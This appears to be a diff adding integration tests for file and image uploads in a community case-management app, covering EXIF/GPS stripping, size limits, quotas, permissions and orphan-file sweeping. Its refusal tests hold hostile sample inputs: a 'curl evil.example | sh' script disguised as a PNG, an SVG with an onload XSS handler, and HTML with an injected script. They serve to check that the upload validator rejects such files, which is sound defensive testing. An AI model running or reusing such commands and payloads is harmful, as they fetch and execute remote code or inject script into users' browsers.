@@ -1,0 +1,266 @@
+import sharp from 'sharp';
+import { FileSweeper } from '../../apps/api/src/files/file-sweeper';
+import { communityWithPeople, CommunityFixture, createItem } from '../support/fixtures';
+import { sql } from '../support/test-database';
+import { startTestApp, TestApp } from '../support/test-app';
+
+/**
+ * Files and images in items (issue 22, points 3 and 5): upload and download
+ * over REST with every limit and permission, metadata stripped from photos,
+ * the per-community quota and the sweep of files no item refers to.
+ */
+
+const MB = 1024 * 1024;
+const QUOTA_MB = 25;
+
+let t: TestApp;
+let c: CommunityFixture;
+let itemId: string;
+
+beforeAll(async () => {
+  t = await startTestApp({ FILES_COMMUNITY_QUOTA_MB: String(QUOTA_MB), FILES_SWEEP_INTERVAL_MINUTES: '0' });
+  c = await communityWithPeople(t.baseUrl);
+  itemId = (
+    await createItem(t.baseUrl, c.member.token, { communityId: c.communityId, kind: 'CASE', title: 'Huisbezoek' })
+  ).id;
+});
+
+afterAll(async () => {
+  await t?.close();
+});
+
+function upload(
+  body: Uint8Array | ReadableStream<Uint8Array>,
+  options: { type: string; name: string; token?: string | null; item?: string },
+): Promise<Response> {
+  const token = options.token === undefined ? c.member.token : options.token;
+  return fetch(`${t.baseUrl}/items/${options.item ?? itemId}/files`, {
+    method: 'POST',
+    headers: {
+      'Content-Type': options.type,
+      'X-Filename': encodeURIComponent(options.name),
+      ...(token ? { Authorization: `Bearer ${token}` } : {}),
+    },
+    body,
+    ...(body instanceof ReadableStream ? { duplex: 'half' } : {}),
+  } as RequestInit);
+}
+
+function download(url: string, token: string | null = c.reader.token): Promise<Response> {
+  return fetch(`${t.baseUrl}${url}`, { headers: token ? { Authorization: `Bearer ${token}` } : {} });
+}
+
+async function fileCount(): Promise<{ files: number; chunks: number }> {
+  const [row] = await sql<{ files: string; chunks: string }>(
+    t.db.url,
+    `SELECT (SELECT count(*) FROM files) AS files, (SELECT count(*) FROM file_chunks) AS chunks`,
+  );
+  return { files: Number(row.files), chunks: Number(row.chunks) };
+}
+
+/** A photo as a phone makes it: a JPEG whose EXIF holds the camera and a GPS position. */
+async function phonePhoto(): Promise<Buffer> {
+  return sharp({ create: { width: 640, height: 480, channels: 3, background: { r: 200, g: 120, b: 40 } } })
+    .jpeg()
+    .withExif({
+      IFD0: { Make: 'Telefoon', Model: 'Huisbezoek 1' },
+      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 5/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '4/1 53/1 0/1' },
+    })
+    .toBuffer();
+}
+
+/** The EXIF pointer to the GPS directory (tag 0x8825), in either byte order. */
+const hasGpsTag = (exif: Buffer) =>
+  exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));
+
+const png = () =>
+  sharp({ create: { width: 300, height: 200, channels: 4, background: { r: 0, g: 90, b: 200, alpha: 1 } } })
+    .png()
+    .toBuffer();
+
+describe('upload and download', () => {
+  it('stores an image and serves it to a reader of the item, inline, with nosniff', async () => {
+    const res = await upload(await png(), { type: 'image/png', name: 'flip-over intervisie.png' });
+    expect(res.status).toBe(201);
+    const stored = (await res.json()) as { id: string; url: string; name: string; size: number; contentType: string };
+    expect(stored).toEqual({
+      id: expect.any(String),
+      url: `/files/${stored.id}`,
+      name: 'flip-over intervisie.png',
+      size: expect.any(Number),
+      contentType: 'image/png',
+    });
+    const got = await download(stored.url);
+    expect(got.status).toBe(200);
+    expect(got.headers.get('content-type')).toBe('image/png');
+    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(got.headers.get('content-disposition')).toMatch(/^inline; filename="flip-over intervisie.png"/);
+    const bytes = Buffer.from(await got.arrayBuffer());
+    expect(bytes.length).toBe(stored.size);
+    expect((await sharp(bytes).metadata()).width).toBe(300);
+  });
+
+  it('strips EXIF and GPS from a photo, and resizes it for display', async () => {
+    const photo = await phonePhoto();
+    const before = await sharp(photo).metadata();
+    expect(before.exif && hasGpsTag(before.exif)).toBe(true); // the test photo really carries a position
+    const res = await upload(photo, { type: 'image/jpeg', name: 'IMG_2041.JPG' });
+    expect(res.status).toBe(201);
+    const { url, name } = (await res.json()) as { url: string; name: string };
+    expect(name).toBe('IMG_2041.jpg');
+    const bytes = Buffer.from(await (await download(url)).arrayBuffer());
+    const after = await sharp(bytes).metadata();
+    expect(after.format).toBe('jpeg');
+    expect(after.exif).toBeUndefined();
+    expect(after.xmp).toBeUndefined();
+    expect(bytes.includes(Buffer.from('Exif\0\0'))).toBe(false);
+    expect(bytes.includes(Buffer.from('Telefoon'))).toBe(false);
+
+    const small = await download(`${url}?w=160`);
+    expect(small.status).toBe(200);
+    expect(small.headers.get('x-content-type-options')).toBe('nosniff');
+    const meta = await sharp(Buffer.from(await small.arrayBuffer())).metadata();
+    expect([meta.width, meta.height]).toEqual([160, 120]);
+    expect((await download(`${url}?w=abc`)).status).toBe(400);
+  });
+
+  it('serves other files as attachments, with the type decided from the bytes', async () => {
+    const pdf = Buffer.from('%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n');
+    const res = await upload(pdf, { type: 'application/pdf', name: 'protocol.pdf' });
+    expect(res.status).toBe(201);
+    const got = await download(((await res.json()) as { url: string }).url);
+    expect(got.headers.get('content-disposition')).toMatch(/^attachment; filename="protocol.pdf"/);
+    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(Buffer.from(await got.arrayBuffer()).equals(pdf)).toBe(true);
+
+    const txt = await upload(Buffer.from('Aantekeningen bij de casus, één pagina.\n'), {
+      type: 'application/octet-stream',
+      name: 'notities',
+    });
+    expect(txt.status).toBe(201);
+    expect(await txt.json()).toMatchObject({ name: 'notities.txt', contentType: 'text/plain' });
+  });
+});
+
+describe('refusals', () => {
+  it('refuses a file over 20 MB by its Content-Length, and one that grows past it while streaming, storing nothing', async () => {
+    const before = await fileCount();
+    const big = Buffer.alloc(20 * MB + 1, 0x61);
+    const declared = await upload(big, { type: 'text/plain', name: 'groot.txt' });
+    expect(declared.status).toBe(413);
+    expect(await declared.json()).toMatchObject({ errors: [{ extensions: { code: 'PAYLOAD_TOO_LARGE' } }] });
+
+    // No Content-Length: chunked, refused as the stream passes 20 MB.
+    let sent = 0;
+    const stream = new ReadableStream<Uint8Array>({
+      pull(controller) {
+        if (sent >= 22 * MB) return controller.close();
+        sent += MB;
+        controller.enqueue(new Uint8Array(MB).fill(0x62));
+      },
+    });
+    const streamed = await upload(stream, { type: 'text/plain', name: 'stroom.txt' });
+    expect(streamed.status).toBe(413);
+    const body = (await streamed.json()) as { errors: { message: string; extensions: { code: string } }[] };
+    expect(body.errors[0].message).toMatch(/groter dan 20 MB.*larger than 20 MB/);
+    expect(await fileCount()).toEqual(before);
+  });
+
+  it('refuses SVG, HTML, a script named .png and an archive with 415', async () => {
+    const before = await fileCount();
+    const cases: [Buffer, string, string][] = [
+      [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'), 'image/svg+xml', 'logo.svg'],
+      [Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'), 'image/png', 'logo.png'],
+      [Buffer.from('<!doctype html><script>fetch("/graphql")</script>'), 'text/html', 'pagina.html'],
+      [Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'image/png', 'foto.png'],
+      [Buffer.from([0x50, 0x4b, 0x03, 0x04, ...Buffer.alloc(40)]), 'application/zip', 'map.zip'],
+      [Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03]), 'application/octet-stream', 'setup.exe'],
+    ];
+    for (const [bytes, type, name] of cases) {
+      const res = await upload(bytes, { type, name });
+      expect([name, res.status]).toEqual([name, 415]);
+      expect(await res.json()).toMatchObject({ errors: [{ extensions: { code: 'UNSUPPORTED_MEDIA_TYPE' } }] });
+    }
+    expect(await fileCount()).toEqual(before);
+  });
+
+  it('refuses an upload by a reader (403), without a session (401), and downloads by outsiders (404)', async () => {
+    const image = await png();
+    expect((await upload(image, { type: 'image/png', name: 'a.png', token: c.reader.token })).status).toBe(403);
+    expect((await upload(image, { type: 'image/png', name: 'a.png', token: c.outsider.token })).status).toBe(404);
+    expect((await upload(image, { type: 'image/png', name: 'a.png', token: null })).status).toBe(401);
+    const { url } = (await (await upload(image, { type: 'image/png', name: 'a.png' })).json()) as { url: string };
+    expect((await download(url, c.outsider.token)).status).toBe(404);
+    expect((await download(url, null)).status).toBe(401);
+    const cookie = await fetch(`${t.baseUrl}${url}`, { headers: { Cookie: `spiraal_session=${c.reader.token}` } });
+    expect(cookie.status).toBe(200);
+    expect((await download('/files/00000000-0000-4000-8000-000000000000')).status).toBe(404);
+    expect((await download('/files/niet-een-id')).status).toBe(404);
+  });
+
+  it('refuses an upload that would pass the community quota (413), storing nothing', async () => {
+    const other = await communityWithPeople(t.baseUrl);
+    const otherItem = await createItem(t.baseUrl, other.member.token, {
+      communityId: other.communityId,
+      kind: 'CASE',
+      title: 'Vol',
+    });
+    // The community already holds nearly its quota.
+    await sql(
+      t.db.url,
+      `INSERT INTO files (community_id, item_id, name, content_type, size) VALUES ($1, $2, 'oud.pdf', 'application/pdf', $3)`,
+      [other.communityId, otherItem.id, QUOTA_MB * MB - 1000],
+    );
+    const before = await fileCount();
+    const res = await upload(Buffer.from('x'.repeat(2000)), {
+      type: 'text/plain',
+      name: 'net te veel.txt',
+      token: other.member.token,
+      item: otherItem.id,
+    });
+    expect(res.status).toBe(413);
+    expect(await res.json()).toMatchObject({ errors: [{ extensions: { reason: 'COMMUNITY_QUOTA' } }] });
+    expect(await fileCount()).toEqual(before);
+    const small = await upload(Buffer.from('past nog'), {
+      type: 'text/plain',
+      name: 'klein.txt',
+      token: other.member.token,
+      item: otherItem.id,
+    });
+    expect(small.status).toBe(201);
+  });
+});
+
+describe('sweep', () => {
+  it('removes a file no item refers to any more, and keeps one another item still shows', async () => {
+    const item = await createItem(t.baseUrl, c.member.token, {
+      communityId: c.communityId,
+      kind: 'CASE',
+      title: 'Weg',
+    });
+    const up = async (name: string) =>
+      ((await (await upload(Buffer.from(name), { type: 'text/plain', name, item: item.id })).json()) as { url: string })
+        .url;
+    const kept = await up('bewaard');
+    const dropped = await up('vergeten');
+    await createItem(t.baseUrl, c.member.token, {
+      communityId: c.communityId,
+      kind: 'CASE',
+      title: 'Kopie',
+      body: `Zie [de bijlage](${kept}).`,
+    });
+    const sweeper = t.app.get(FileSweeper);
+    expect(await sweeper.sweep(60 * 60_000)).toEqual([]); // within the grace period nothing goes
+    const removed = await sweeper.sweep(0);
+    expect(removed).toContain(dropped.slice('/files/'.length));
+    expect(removed).not.toContain(kept.slice('/files/'.length));
+    expect((await download(dropped)).status).toBe(404);
+    expect((await download(kept)).status).toBe(200);
+    const [{ chunks }] = await sql<{ chunks: string }>(
+      t.db.url,
+      `SELECT count(*) AS chunks FROM file_chunks WHERE file_id = $1`,
+      [dropped.slice('/files/'.length)],
+    );
+    expect(Number(chunks)).toBe(0);
+  });
+});
